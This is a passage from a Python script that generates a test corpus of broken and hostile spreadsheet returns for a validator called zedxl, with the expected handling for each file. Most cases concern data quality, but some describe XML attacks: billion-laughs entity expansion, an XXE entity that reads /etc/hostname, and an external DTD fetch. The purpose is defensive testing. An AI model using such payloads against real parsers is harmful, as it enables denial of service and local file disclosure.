    Entry("S10_spanish_decimal_comma_text.xlsx", "values", "parse es-ES only if the policy says so, else reject naming "
          "the cell", "E6 '1.150,5', E7 '362,0', E8 '71,5%' as text (pasted from another system); % column cached "
          "#VALUE!.", make_s10),
    Entry("S11_percent_typed_as_71_5.xlsx", "values", "warn/reject: percentage outside [0,1] (probable x100 scale "
          "error)", "E8 (coverage, template expects 0.715) typed as 71.5 in a General cell -> 8937.5% execution.",
          make_s11),
    Entry("S12_negative_and_absurd_values.xlsx", "values", "reject: outside validation rules (>=0, plausible max)",
          "E6 -1150, E7 3.62e9, E8 1e308.", make_s12),
    Entry("S12b_nan_inf_raw_xml.xlsx", "values", "reject: non-finite numbers", "Hand-edited XML: <v>NaN</v>, "
          "<v>INF</v>, <v>-1e999</v> in E6:E8 (Excel itself never writes these).", make_s12b),
    Entry("S13_dates_and_numbers_confused.xlsx", "values", "reject or convert with explicit rule, naming the cell",
          "E6 = 1150 but formatted as date (reads as 1903-02-23); G6 date as bare serial 45382 (General); G7 "
          "'31/03/2024' and G8 '03/31/2024' as text.", make_s13),
    Entry("S14_date1904_system.xlsx", "values", "accept: dates must come out 2024-03-31", "Whole workbook uses the "
          "1904 date system (Mac legacy); date serials 43920.", make_s14),
    Entry("S15_formulas_replaced_by_constants.xlsx", "template", "reject/warn: formula cells overwritten (compare with "
          "template formulas)", "% Ejecución F6:F8 overwritten with 0.99 and Total E12 with 5000 (cached values no "
          "longer match inputs).", make_s15),
    Entry("S16_formulas_without_cached_values.xlsx", "template", "compute from inputs (never trust cached values) or "
          "warn 'file not saved by Excel'", "All formulas without <v> (file produced by a script / openpyxl and never "
          "opened in Excel).", make_s16),
    Entry("S17_stale_cached_value_manual_calc.xlsx", "template", "recompute or compare cached vs recomputed; warn",
          "calcMode=manual; F6 cached 0.5 but E6/D6 = 0.958.", make_s17),
    Entry("S18_error_values.xlsx", "values", "reject naming the cell: error value is not a blank", "E6 =1150/0 "
          "(#DIV/0!), E7 literal #N/A, F8 =#REF!/D8 (#REF!).", make_s18),
    Entry("S19_foreign_rows_and_target_edited.xlsx", "authorization", "reject: edits outside OF01's editable range "
          "(E9, H9 of OF02; D6 Meta)", "Sheet protection removed; OF01 edited OF02's row 9 (E9=999) and lowered its "
          "own target D6 1200->1000.", make_s19),
    Entry("S20_dup_OF01_first.xlsx", "duplicates", "flag duplicate office; keep both originals; pick by explicit rule, "
          "never sum", "OF01 submission #1 (E6=1100).", make_s20((1100, 300, 0.7), "primera versión")),
    Entry("S20_dup_OF01_second (1).xlsx", "duplicates", "see S20_dup_OF01_first", "OF01 submission #2 (E6=1150), "
          "mail-client style ' (1)' name.", make_s20((1150, 362, 0.715), "versión corregida")),
    Entry("S21_OF03_filename_but_content_OF01.xlsx", "duplicates", "trust content identity, flag mismatch with "
          "filename/sender", "File named for OF03 but _meta/B2 say OF01 (office reused a colleague's file).",
          _book(b02)),
    Entry("S22_control_chars_in_text.xlsx", "values", "strip/replace control chars before writing to master",
          "H6 contains BEL, VT and ESC stored as _x0007_ _x000B_ _x001B_.", make_s22),
    Entry("S23_text_over_32767_chars.xlsx", "values", "truncate with warning or reject (Excel cell limit 32,767)",
          "H6 holds 40,000 characters.", make_s23),
    Entry("S24_hidden_row_and_veryhidden_sheet.xlsx", "template", "reject: unknown indicator / extra sheet; show "
          "hidden content in report", "Hidden row 13 (OF01/IND-99, E=50000) below Total and a veryHidden sheet "
          "'Hoja2'.", make_s24),
    Entry("S25_cell_refs_out_of_grid.xlsx", "values", "reject: invalid cell reference", "Cells E1048577 and XFE6 "
          "(beyond Excel's grid) in the data sheet XML.", make_s25),
    Entry("S26_mixed_cell_types.xlsx", "values", "reject naming cell: wrong type", "E6 boolean TRUE, E7 ISO-8601 date "
          "cell (t='d'), E8 inline string.", make_s26),
    Entry("X01_billion_laughs_sharedStrings.xlsx", "xml", "reject: DTD/entities forbidden", "sharedStrings.xml with a "
          "10^9-expansion entity (3 GB of 'lol') referenced by cell A1 (iterparse path).",
          x_book(sst=LOL.format(root="sst") + SST_ONE.format(text="&lol9;"))),
    Entry("X02_billion_laughs_workbook_xml.xlsx", "xml", "reject: DTD/entities forbidden", "workbook.xml with the same "
          "entity expansion inside a definedName (fromstring path; lxml path when lxml is installed).",
          x_book(workbook=LOL.format(root="workbook") + SMALL_WORKBOOK.format(
              names='<definedNames><definedName name="boom">&lol9;</definedName></definedNames>'))),
    Entry("X04_xxe_file_sharedStrings.xlsx", "xml", "reject: DTD/entities forbidden; never resolve external entities",
          "External entity SYSTEM file:///etc/hostname in a shared string (would leak a local file into cell A1).",
          x_book(sst=XXE.format(root="sst") + SST_ONE.format(text="leak:&xxe;"))),
    Entry("X05_xxe_file_workbook_xml.xlsx", "xml", "reject", "External entity in workbook.xml definedName (fromstring "
          "/ lxml path).", x_book(workbook=XXE.format(root="workbook") + SMALL_WORKBOOK.format(
              names='<definedNames><definedName name="leak">&xxe;</definedName></definedNames>'))),
    Entry("X06_external_dtd_workbook_xml.xlsx", "xml", "reject (DTD present); never fetch", "DOCTYPE pointing at an "
          "external DTD on 127.0.0.1:9.", x_book(workbook='<!DOCTYPE workbook SYSTEM "http://127.0.0.1:9/zedxl.dtd">'
                                                 + SMALL_WORKBOOK.format(names=""))),
    Entry(".~lock.B02_ok_filled_OF01.xlsx#", "container", "skip (log)", "LibreOffice lock file for the same workbook.",
          _bytes(LOCK_TEXT.encode())),
)

INDEX_NAME = "INDEX.md"
NAMES: tuple[str, ...] = (*(e.name for e in ENTRIES), INDEX_NAME)
#: files whose bytes change on every build: encryption draws fresh salts (what they decrypt to does not change)
RANDOM_SALTED: tuple[str, ...] = ("C11_encrypted_password_zedxl.xlsx",)

INDEX_HEAD = """# Broken and hostile returns: a sample corpus

Files an office (or an attacker) could send back instead of a good return. One line per file:
`file` | category | what a trustworthy tool does | what it is. The corpus is a **sample of classes**: zedxl must handle
each class, not these file names; other files of the same classes will be tried. Generated by
`python -m tests.hostile.make_corpus DIR` (tests/hostile/make_corpus.py): same bytes on every run, but for the
encrypted file's random salts.

The container, size, XML and active-content files (A*, C*, D*, X*) do not depend on any template. The semantic files
(B*, S*) are mutations of a *generic* office template, not zedxl's (sheet `Datos`, header row 5, rows 6-11 = offices
OF01 and OF02, columns Oficina, Código, Indicador, Meta, Ejecutado, % Ejecución (formula), Fecha de corte,
Justificación; hidden sheet `_meta` with template_version 2.0). For zedxl, any of them is first of all "not a zedxl
return"; the *problem* each one shows (inserted rows, merged inputs, numbers stored as text, decimal commas, 71.5 typed
for 71.5 %, dates, constants over formulas, other offices' rows edited, duplicates, lock files…) must also be
reproduced on zedxl's own office workbooks in the tests.

"""


def index_text(sizes: Mapping[str, int]) -> str:
    lines_ = [f"- `{e.name}` ({sizes[e.name]:,} B) | {e.category} | {e.action} | {e.what}" for e in ENTRIES]
    return INDEX_HEAD + "\n".join(lines_) + "\n"


def build(dest: Path) -> list[Path]:
    """Write every file of the corpus into ``dest`` (created if missing); the paths, in ``NAMES`` order."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    paths: list[Path] = []
    sizes: dict[str, int] = {}
    for entry in ENTRIES:
        data = entry.make()
        path = dest / entry.name
        path.write_bytes(data)
        sizes[entry.name] = len(data)
        paths.append(path)
    index = dest / INDEX_NAME
    index.write_text(index_text(sizes), encoding="utf-8")
    paths.append(index)
    return paths


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    if len(args) != 1:
        print("uso: python -m tests.hostile.make_corpus CARPETA", file=sys.stderr)
        return 2
    dest = Path(args[0])
    paths = build(dest)
    print(f"Corpus hostil: {len(paths)} archivos en {dest}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
